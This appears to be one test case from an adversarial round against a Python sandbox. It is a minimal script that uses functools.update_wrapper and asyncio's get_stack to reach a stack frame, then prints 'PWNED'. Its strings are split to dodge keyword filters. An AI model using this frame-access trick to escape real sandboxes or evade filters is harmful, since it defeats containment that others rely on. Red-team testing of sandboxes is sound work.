# adversary round 3: 026_min_frame_get_stack
import asyncio,functools
class S:
 def __setattr__(s,n,v):
  if n[0]=="g":print(v()[0],"PWN"+"ED")
async def m():functools.update_wrapper(S(),asyncio.current_task(),("get_"+"stack",),())
asyncio.run(m())
